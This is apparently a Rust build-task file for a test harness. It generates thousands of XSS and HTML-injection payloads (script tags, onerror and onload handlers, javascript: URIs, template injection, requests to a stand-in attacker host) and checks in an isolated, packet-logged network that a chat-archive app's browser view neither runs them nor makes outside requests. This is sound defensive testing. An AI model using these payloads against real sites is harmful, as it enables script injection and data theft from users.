//! `cargo xtask hostile`: an archive whose texts, names, titles and addresses are all meant to run or to be fetched, read
//! in a browser where the only way out is a device on which every packet is logged.

use std::fs;
use std::net::UdpSocket;
use std::path::Path;
use std::process::{Command, Stdio};
use std::thread;
use std::time::Duration;

use anyhow::{Context, Result, ensure};

use crate::dist::{self, Profile};
use crate::journeys::{self, Demo};
use crate::leash::Leash;
use crate::tool;

/// How many payloads there are.
const PAYLOADS: usize = 5_000;
/// Enough for each payload to be said at least once.
const MESSAGES: &str = "9000";
/// Where payloads want to go: an address of documentation that the only route leads to.
const HOST: &str = "198.51.100.77";
/// A network of a device that leads nowhere, with a gateway that is never asked for.
const NETWORK: &str = "echo 1 > /proc/sys/net/ipv6/conf/all/disable_ipv6; ip link set lo up \
    && ip link add out type veth peer name wire && ip link set wire up && ip address add 198.51.100.2/24 dev out \
    && ip link set out up && ip route add default via 198.51.100.1 \
    && ip neighbour add 198.51.100.1 lladdr 02:00:00:00:00:01 dev out nud permanent \
    && ip neighbour add 198.51.100.77 lladdr 02:00:00:00:00:77 dev out nud permanent \
    && exec \"$0\" hostile-within";
/// What the browser looks up for itself, whatever it shows.
const OF_THE_BROWSER: [&str; 3] = ["googleapis.com.", "accounts.google.com.", "www.google.com."];
/// How long the log may lag behind.
const LAG: Duration = Duration::from_secs(2);

/// What payloads are made of; `RUN` is what must not run, `HOST` what must not be asked.
const SHAPES: [&str; 40] = [
    "<script>RUN</script>",
    "<script src=//HOST/x.js></script>",
    "<img src=x onerror=\"RUN\">",
    "<img src=\"http://HOST/pixel.gif\">",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><use href=\"http://HOST/x.svg#a\"/></svg>",
    "<iframe src=\"javascript:RUN\"></iframe>",
    "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
    "<iframe src=http://HOST/></iframe>",
    "<object data=\"http://HOST/x.swf\"></object>",
    "<embed src=\"//HOST/x.pdf\">",
    "<link rel=stylesheet href=\"http://HOST/x.css\">",
    "<link rel=dns-prefetch href=\"//HOST\">",
    "<style>@import url(http://HOST/x.css);</style>",
    "<div style=\"background:url(http://HOST/bg.png)\">x</div>",
    "<meta http-equiv=refresh content=\"0;url=http://HOST/\">",
    "<base href=\"http://HOST/\">",
    "<form action=http://HOST/><button autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<video src=http://HOST/v.mp4 autoplay onerror=RUN></video>",
    "<audio src=http://HOST/a.mp3 autoplay></audio>",
    "<body onload=RUN>",
    "<math><mtext><img src=x onerror=RUN></mtext></math>",
    "<template><script>RUN</script></template>",
    "<a href=\"javascript:RUN\">x</a>",
    "javascript:RUN",
    "data:text/html,<script>RUN</script>",
    "vbscript:RUN",
    "[x](javascript:RUN)",
    "![x](http://HOST/i.png)",
    "[x](http://HOST/l \"onmouseover=RUN\")",
    "<font color=\"info\" onclick=RUN>x</font>",
    "http://HOST/fetch?q=1",
    "//HOST/protocol-relative",
    "{{constructor.constructor('RUN')()}}",
    "${RUN}",
    "'\";RUN;//",
    "</script><script>RUN</script>",
    "</title></textarea><img src=x onerror=RUN>",
];
/// What stands around a shape.
const AROUND: [(&str, &str); 25] = [
    ("", ""),
    ("\"", ""),
    ("'", "'"),
    ("\">", "<\""),
    ("'>", ""),
    ("-->", "<!--"),
    ("]]>", ""),
    ("`", "`"),
    ("@", " "),
    ("#", ""),
    ("> ", ""),
    ("**", "**"),
    ("```", "```"),
    ("\u{202e}", "\u{202c}"),
    ("\u{200b}", "\u{feff}"),
    ("[微笑]", "[呲牙]"),
    ("「张三：", "」 - - - - - - 好"),
    ("&lt;", "&gt;"),
    ("%3C", "%3E"),
    ("\\u003c", "\\x3e"),
    ("= ", ""),
    ("请看 ", " 谢谢"),
    ("\u{2028}", "\u{2029}"),
    ("<!--", ""),
    ("</div></body></html>", ""),
];
/// How what must not run is written.
const CALLS: [&str; 5] =
    ["__ran(1)", "window['__ran'](2)", "top.__ran(3)", "__ran`4`", "self.__ran&&__ran(5)"];

/// Builds, and goes where there is no network but a logged one.
pub fn run() -> Result<()> {
    // Building may put another file in its place, and then its name is no longer told.
    let own = std::env::current_exe()?;
    dist::debug()?;
    tool::run(Command::new("unshare").args(["--net", "--", "sh", "-c", NETWORK]).arg(own))
}

/// Fills an archive, reads it and looks at what left.
pub fn within() -> Result<()> {
    let folder = tempfile::Builder::new().prefix("huicun-hostile.").tempdir()?;
    let corpus = folder.path().join("hostile.tsv");
    fs::write(&corpus, payloads())?;
    let log = folder.path().join("packets.log");
    let mut logger = Command::new("tcpdump")
        .args(["-i", "out", "-n", "-l"])
        .stdout(fs::File::create(&log)?)
        .stderr(Stdio::null())
        .spawn()
        .context("tcpdump logs what leaves: apt-get install tcpdump")?;
    let _leash = Leash::hold(r#"kill -KILL "$1" 2>/dev/null"#, &[logger.id().to_string()])?;
    thread::sleep(LAG);
    UdpSocket::bind("0.0.0.0:0")?.send_to(b"control", (HOST, 9))?;
    thread::sleep(LAG);
    ensure!(strange(&log)?.len() == 1, "what leaves is not logged");

    let mut demo = Command::new(Profile::Debug.folder().join("huicun"));
    demo.arg("demo").arg("--data").arg(folder.path().join("data")).arg("--corpus").arg(&corpus);
    demo.args(["--corpus-everywhere", "--no-live", "--listen", "127.0.0.1:8098", "--messages", MESSAGES]);
    let mut demo = Demo::start(&mut demo)?;
    let ready = demo.wait_until_ready()?;
    let outcome = tool::run(journeys::browser(&ready).env("HUICUN_RUN", "hostile"));
    let outcome = outcome.and(demo.stop());
    thread::sleep(LAG);
    logger.kill()?;
    logger.wait()?;
    let strange = strange(&log)?;
    let all = fs::read_to_string(&log)?.lines().count();
    println!(
        "{PAYLOADS} payloads: {all} packets, {} not of the browser's own or the control",
        strange.len() - 1
    );
    outcome?;
    ensure!(strange.len() == 1, "packets left the machine: {}", strange.join("\n"));
    Ok(())
}

/// The packets that nothing but a payload can have sent.
fn strange(log: &Path) -> Result<Vec<String>> {
    let text = fs::read_to_string(log)?;
    let is_own = |line: &&str| OF_THE_BROWSER.iter().any(|name| line.contains(name));
    Ok(text.lines().filter(|line| !is_own(line)).map(str::to_owned).collect())
}

fn payloads() -> String {
    let mut lines = String::new();
    for (number, call) in CALLS.into_iter().enumerate() {
        for (before, after) in AROUND {
            for shape in SHAPES {
                let shape = shape.replace("RUN", call).replace("HOST", &format!("{HOST}/{number}"));
                lines.push_str(&format!("hostile\t{before}{shape}{after}\n"));
            }
        }
    }
    lines
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn there_are_as_many_payloads_as_promised_and_no_two_alike() {
        let text = payloads();
        let lines: HashSet<&str> = text.lines().collect();
        assert_eq!((lines.len(), text.lines().count()), (PAYLOADS, PAYLOADS));
    }
}
